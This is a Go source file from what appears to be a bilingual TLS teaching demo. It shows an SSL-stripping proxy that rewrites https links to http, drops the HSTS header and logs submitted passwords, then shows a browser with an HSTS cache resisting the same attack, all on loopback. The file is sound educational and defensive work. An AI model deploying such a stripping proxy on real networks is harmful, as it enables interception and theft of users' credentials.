package tlsdemo

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"time"
)

// browser models the part of a browser that matters for SSL stripping:
// it follows redirects and forms, and — if it has one — keeps an HSTS
// cache (RFC 6797 §8.1): hosts that said Strict-Transport-Security over
// HTTPS are only ever contacted over HTTPS until max-age runs out. Go's
// http.Client has no HSTS cache; this one is modelled, and says so.
type browser struct {
	name string
	hc   *http.Client
	// The network the browser is on: which server answers for
	// localhost:80 and localhost:443. An attacker on the path decides port 80.
	port80, port443 string
	hsts            map[string]time.Time // nil: a browser without HSTS memory
	log             func(en, zh string)  // one line of the browser's log, in the run's language
}

func newBrowser(name string, cfg *tls.Config, port80, port443 string, hsts bool, log func(en, zh string)) *browser {
	b := &browser{name: name, log: log, port80: port80, port443: port443}
	dial := func(ctx context.Context, network, addr string) (net.Conn, error) {
		switch addr {
		case "localhost:80":
			addr = b.port80
		case "localhost:443":
			addr = b.port443
		default:
			return nil, fmt.Errorf("this demo network routes only localhost:80 and localhost:443, not %s", addr)
		}
		return netxLoopback.Dial(ctx, network, addr)
	}
	b.hc = &http.Client{
		Transport:     &http.Transport{DialContext: dial, TLSClientConfig: cfg, DisableKeepAlives: true},
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
		Timeout:       15 * time.Second,
	}
	if hsts {
		b.hsts = map[string]time.Time{}
	}
	return b
}

// visit requests u (following up to 5 redirects) and returns the final
// URL and body.
func (b *browser) visit(ctx context.Context, method, u, form string) (string, string, error) {
	for hop := 0; hop < 5; hop++ {
		pu, err := url.Parse(u)
		if err != nil {
			return u, "", err
		}
		if exp, ok := b.hsts[pu.Hostname()]; ok && pu.Scheme == "http" && time.Now().Before(exp) {
			pu.Scheme = "https"
			b.log(fmt.Sprintf("HSTS cache: %s is a known HSTS host → %s (nothing sent over http)", pu.Hostname(), pu),
				fmt.Sprintf("HSTS 缓存：%s 是已知的 HSTS 主机 → %s（明文 HTTP 上什么也没发）", pu.Hostname(), pu))
			u = pu.String()
		}
		var body io.Reader
		if method == http.MethodPost {
			body = strings.NewReader(form)
		}
		req, _ := http.NewRequestWithContext(ctx, method, u, body)
		if method == http.MethodPost {
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		}
		resp, err := b.hc.Do(req)
		if err != nil {
			return u, "", err
		}
		data, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
		resp.Body.Close()
		line := fmt.Sprintf("%s %s → %d", method, u, resp.StatusCode)
		b.log(line, line)
		if b.hsts != nil && pu.Scheme == "https" {
			if age, ok := maxAge(resp.Header.Get("Strict-Transport-Security")); ok {
				_, known := b.hsts[pu.Hostname()]
				b.hsts[pu.Hostname()] = time.Now().Add(age)
				if !known {
					sts := resp.Header.Get("Strict-Transport-Security")
					b.log(fmt.Sprintf("HSTS cache: remembered %s for %v (Strict-Transport-Security: %s)", pu.Hostname(), age, sts),
						fmt.Sprintf("HSTS 缓存：记住 %s，有效期 %v（Strict-Transport-Security: %s）", pu.Hostname(), age, sts))
				}
			}
		}
		if loc := resp.Header.Get("Location"); resp.StatusCode/100 == 3 && loc != "" {
			u, method = loc, http.MethodGet
			continue
		}
		return u, string(data), nil
	}
	return u, "", fmt.Errorf("too many redirects")
}

// maxAge reads max-age from a Strict-Transport-Security header value
// (RFC 6797 §6.1.1). Only a header received over HTTPS counts (§8.1).
func maxAge(v string) (time.Duration, bool) {
	for _, d := range strings.Split(v, ";") {
		k, val, _ := strings.Cut(strings.TrimSpace(d), "=")
		if strings.EqualFold(k, "max-age") {
			n, err := strconv.ParseInt(strings.Trim(val, `"`), 10, 64)
			if err != nil || n < 0 {
				return 0, false
			}
			return time.Duration(n) * time.Second, true
		}
	}
	return 0, false
}

var actionRE = regexp.MustCompile(`action="([^"]+)"`)

// login loads the login page at u and submits the form where its action
// points, as a user typing the password would.
func (b *browser) login(ctx context.Context, u string) (string, error) {
	_, page, err := b.visit(ctx, http.MethodGet, u, "")
	if err != nil {
		return "", err
	}
	m := actionRE.FindStringSubmatch(page)
	if m == nil {
		return "", fmt.Errorf("no form on %s", u)
	}
	final, _, err := b.visit(ctx, http.MethodPost, m[1], loginBody)
	return final, err
}

// stripper is the SSL-stripping proxy (Moxie Marlinspike, 2009): it
// answers the victim's plain-HTTP requests itself, fetches the real page
// over HTTPS, and rewrites https:// to http:// so the victim never leaves
// plain HTTP. It also drops Strict-Transport-Security.
type stripper struct {
	srv *http.Server
	ln  net.Listener
	mu  sync.Mutex
	saw []string
}

func startStripper(ctx context.Context, upstream http.RoundTripper) (*stripper, error) {
	ln, err := netxLoopback.Listen(ctx, "tcp", "127.0.0.1:0")
	if err != nil {
		return nil, fmt.Errorf("stripping proxy: %w", err)
	}
	s := &stripper{ln: ln}
	s.srv = &http.Server{ReadHeaderTimeout: 10 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<16))
		s.mu.Lock()
		line := r.Method + " http://" + r.Host + r.URL.RequestURI()
		if len(body) > 0 {
			line += "  body: " + string(body)
		}
		s.saw = append(s.saw, line)
		s.mu.Unlock()
		out, _ := http.NewRequestWithContext(r.Context(), r.Method, "https://localhost"+r.URL.RequestURI(), strings.NewReader(string(body)))
		out.Header = r.Header.Clone()
		resp, err := upstream.RoundTrip(out)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		defer resp.Body.Close()
		page, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
		for k, v := range resp.Header {
			if k != "Strict-Transport-Security" && k != "Content-Length" {
				w.Header()[k] = v
			}
		}
		if loc := resp.Header.Get("Location"); loc != "" {
			w.Header().Set("Location", strings.ReplaceAll(loc, "https://", "http://"))
		}
		w.WriteHeader(resp.StatusCode)
		io.WriteString(w, strings.ReplaceAll(string(page), "https://", "http://"))
	})}
	go s.srv.Serve(ln)
	return s, nil
}

func (s *stripper) Close()       { s.srv.Close() }
func (s *stripper) Addr() string { return s.ln.Addr().String() }
func (s *stripper) seen() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.saw...)
}

func (w *world) stepHSTS(ctx context.Context) error {
	r := w.r
	r.Step("hsts", r.T("SSL stripping, and the HSTS memory that defeats it", "SSL 剥离攻击，以及挡住它的 HSTS 记忆"))
	// The real site's port 80: a redirect to HTTPS, as most sites have.
	redir := &http.Server{ReadHeaderTimeout: 10 * time.Second, Handler: http.HandlerFunc(func(rw http.ResponseWriter, req *http.Request) {
		http.Redirect(rw, req, "https://localhost"+req.URL.RequestURI(), http.StatusMovedPermanently)
	})}
	rln, err := netxLoopback.Listen(ctx, "tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	go redir.Serve(rln)
	defer redir.Close()
	attackerTransport := &http.Transport{
		DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
			return netxLoopback.Dial(ctx, network, w.site.Addr())
		},
		TLSClientConfig: w.attackerClient(), DisableKeepAlives: true,
	}
	defer attackerTransport.CloseIdleConnections()
	strip, err := startStripper(ctx, attackerTransport)
	if err != nil {
		return err
	}
	defer strip.Close()
	say := func(prefix string) func(en, zh string) {
		return func(en, zh string) { r.Printf("    %s %s", prefix, r.T(en, zh)) }
	}

	// 1. A clean network: the redirect works, and a browser with HSTS
	// memory learns the header.
	r.Printf("%s", r.T("1. Clean network, the user types http://localhost/login:", "1. 干净的网络，用户输入 http://localhost/login："))
	remembering := newBrowser("remembering", w.client(""), rln.Addr().String(), w.site.Addr(), true, say("│"))
	final, err := remembering.login(ctx, "http://localhost/login")
	if err != nil {
		return fmt.Errorf("clean network login: %w", err)
	}
	r.Printf(r.T("   password sent to %s", "   密码发往 %s"), final)

	// 2. The attacker owns port 80 on this network; a browser that never
	// saw the site.
	r.Printf("%s", r.T("2. Hostile Wi-Fi: the attacker answers port 80. A browser that never visited the site:",
		"2. 恶意 Wi-Fi：攻击者接管了 80 端口。一个从未访问过该站点的浏览器："))
	fresh := newBrowser("fresh", w.client(""), strip.Addr(), w.site.Addr(), false, say("│"))
	finalFresh, err := fresh.login(ctx, "http://localhost/login")
	if err != nil {
		return fmt.Errorf("stripped login: %w", err)
	}
	sawFresh := strip.seen()
	r.Printf(r.T("   password sent to %s; the stripping proxy logged:", "   密码发往 %s；剥离代理记录到："), finalFresh)
	for _, l := range sawFresh {
		r.Printf("    %s %s", "!", strings.Replace(l, "  body: ", r.T("  body: ", "  请求体："), 1))
	}
	stripped := strings.HasPrefix(finalFresh, "http://") && strings.Contains(strings.Join(sawFresh, "\n"), password)

	// 3. Same hostile network, the browser that remembers HSTS.
	r.Printf("%s", r.T("3. Same hostile Wi-Fi, the browser from 1 (it remembered Strict-Transport-Security):",
		"3. 同一个恶意 Wi-Fi，第 1 步那个记住了 Strict-Transport-Security 的浏览器："))
	remembering.port80 = strip.Addr() // the user moved to the hostile network
	before := len(strip.seen())
	finalHSTS, err := remembering.login(ctx, "http://localhost/login")
	if err != nil {
		return fmt.Errorf("HSTS login: %w", err)
	}
	after := len(strip.seen()) - before
	r.Printf(r.T("   password sent to %s; requests the stripping proxy saw: %d", "   密码发往 %s；剥离代理看到的请求数：%d"), finalHSTS, after)
	r.Printf("%s", r.T("   (the HSTS cache is modelled in this demo: Go's http.Client has none; browsers do, plus a preload list)",
		"   （HSTS 缓存是本演示模拟的：Go 的 http.Client 没有；浏览器有，还有预加载列表）"))
	r.Set("strip_read_password", stripped)
	r.Set("hsts_proxy_requests", after)
	r.Set("hsts_final_scheme", strings.SplitN(finalHSTS, ":", 2)[0])
	r.Event("attack", map[string]any{"attack": "ssl_strip", "blocked": !stripped, "attacker_read": strings.Join(sawFresh, "\n")})
	r.Event("attack", map[string]any{"attack": "ssl_strip_hsts", "blocked": after == 0 && strings.HasPrefix(finalHSTS, "https://"), "attacker_requests": after})
	return nil
}
